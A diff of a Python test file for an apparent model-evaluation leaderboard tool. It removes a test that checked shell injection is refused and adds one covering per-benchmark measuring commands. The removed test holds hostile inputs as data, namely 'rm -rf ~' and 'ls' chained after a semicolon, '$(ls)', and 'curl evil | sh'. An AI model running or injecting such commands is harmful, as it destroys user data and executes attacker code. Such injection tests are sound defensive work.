@@ -6,7 +6,6 @@ import json
 
 import pytest
 
-from hf_evaluation.board.commands import gap_command, measuring_command
 from hf_evaluation.board.origin import OWN_FINETUNE, origin_of, type_of
 from hf_evaluation.board.survey import read_survey
 from hf_evaluation.board.titles import default_title
@@ -14,7 +13,7 @@ from hf_evaluation.board.views import FIVE, VIEW_OF
 from hf_evaluation.scores.benchmarks import catalogue
 from tests.board.support import board_of
 from tests.support import ROOT
-from tests.survey_files import gap, lines, model, score
+from tests.survey_files import lines, model, score
 
 KNOWN = {benchmark.id: benchmark for benchmark in catalogue().benchmarks}
 
@@ -78,18 +77,24 @@ def test_what_a_model_is_made_from_is_told_truly(
     assert origin_of(kind, "acme/m", bases) == origin
 
 
-def test_commands_are_made_of_ids_and_nothing_else() -> None:
-    evil = "acme/m; rm -rf ~"
-    for state in ("in_pr", "in_readme", "on_artificial_analysis", "to_measure"):
-        assert gap_command(state, "acme/m", "gsm8k", None)
-        assert gap_command(state, evil, "gsm8k", None) is None
-        assert gap_command(state, "acme/m", "gsm8k; ls", None) is None
-    assert "flavor" not in (gap_command("to_measure", "acme/m", "gsm8k", "$(ls)") or "")
-    assert gap_command("published", "acme/m", "gsm8k", None) is None
-    assert "import-results" in measuring_command(KNOWN["c_eval"])
-    row = model("acme/m", gaps=[gap("gsm8k", "to_measure", command="curl evil | sh")])
-    told = board_of(lines([row]), benchmarks=KNOWN)["models"][0]["gaps"][0]["command"]
-    assert told == "uv run scripts/eval_jobs.py submit --model acme/m --task gsm8k"
+def test_a_column_of_a_whole_benchmark_tells_how_any_model_is_measured() -> None:
+    document = board_of(
+        lines(
+            [
+                model(
+                    "acme/m",
+                    score("gsm8k", 50.0),
+                    score("c_eval", 50.0),
+                    score("mmlu", 5.0, variant="anatomy"),
+                )
+            ]
+        ),
+        benchmarks=KNOWN,
+    )
+    commands = {item["id"]: item["command"] for item in document["benchmarks"]}
+    assert commands["gsm8k"].endswith("scripts/eval_jobs.py submit --model ORG/NAME --task gsm8k")
+    assert "import-results RESULTS.json --repo-id ORG/NAME" in commands["c_eval"]
+    assert commands["mmlu:anatomy"] is None
 
 
 def test_what_the_card_contradicts_is_told_also_of_a_score_without_a_column() -> None:
